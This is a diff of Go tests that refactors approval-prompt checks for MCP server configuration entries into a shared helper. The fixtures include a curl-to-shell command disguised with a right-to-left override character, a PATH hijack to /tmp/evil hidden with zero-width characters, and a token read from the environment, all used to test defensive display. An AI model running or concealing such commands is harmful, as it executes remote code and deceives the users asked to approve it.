@@ -300,21 +300,29 @@ func TestApprovalPromptShowsValues(t *testing.T) {
 		{"local", []string{"reads    the file ./.env into the server's environment\n"}},
 		{"web", []string{"headers  X-Forwarded-For: 10.0.0.1\n", "           X-Token: ${env:GITHUB_TOKEN}\n", "reads    GITHUB_TOKEN from your environment"}},
 	} {
-		s, err := found.Find(tc.server)
-		if err != nil {
-			t.Fatal(err)
-		}
-		var prompt strings.Builder
-		session.DescribeEntry(&prompt, s, "Claude Code project")
-		for _, want := range tc.want {
-			if !strings.Contains(prompt.String(), want) {
-				t.Errorf("%s: the prompt lacks %q:\n%s", tc.server, want, prompt.String())
-			}
-		}
-		if strings.Contains(prompt.String(), "ghp-secret-123") || strings.Contains(prompt.String(), "\x1b") {
-			t.Errorf("%s: the prompt holds a secret or an escape:\n%q", tc.server, prompt.String())
+		prompt := promptShows(t, found, tc.server, "Claude Code project", tc.want)
+		if strings.Contains(prompt, "ghp-secret-123") || strings.Contains(prompt, "\x1b") {
+			t.Errorf("%s: the prompt holds a secret or an escape:\n%q", tc.server, prompt)
 		}
 	}
+}
+
+// promptShows is the approval prompt for the server of found named
+// server, after checking that it holds each of want.
+func promptShows(t *testing.T, found *mcpconfig.Found, server, client string, want []string) string {
+	t.Helper()
+	s, err := found.Find(server)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var prompt strings.Builder
+	session.DescribeEntry(&prompt, s, client)
+	for _, w := range want {
+		if !strings.Contains(prompt.String(), w) {
+			t.Errorf("%s: the prompt lacks %q:\n%s", server, w, prompt.String())
+		}
+	}
+	return prompt.String()
 }
 
 // TestApprovalPromptShowsHiddenCharacters: what the approval prompt shows
@@ -339,19 +347,8 @@ func TestApprovalPromptShowsHiddenCharacters(t *testing.T) {
 		{"rtl", []string{`sh -c '\u202ehs | p/elpmaxe//:sptth lruc'`}},
 		{"zw", []string{`PATH\u200b=/tmp/evil`, `NAME\ufeff=x\u2066y`}},
 	} {
-		s, err := found.Find(tc.server)
-		if err != nil {
-			t.Fatal(err)
-		}
-		var prompt strings.Builder
-		session.DescribeEntry(&prompt, s, "")
-		for _, want := range tc.want {
-			if !strings.Contains(prompt.String(), want) {
-				t.Errorf("%s: the prompt lacks %q:\n%s", tc.server, want, prompt.String())
-			}
-		}
-		if strings.ContainsAny(prompt.String(), "\u202e\u200b\ufeff\u2066") {
-			t.Errorf("%s: the prompt holds a hidden character as it came:\n%q", tc.server, prompt.String())
+		if prompt := promptShows(t, found, tc.server, "", tc.want); strings.ContainsAny(prompt, "\u202e\u200b\ufeff\u2066") {
+			t.Errorf("%s: the prompt holds a hidden character as it came:\n%q", tc.server, prompt)
 		}
 	}
 }
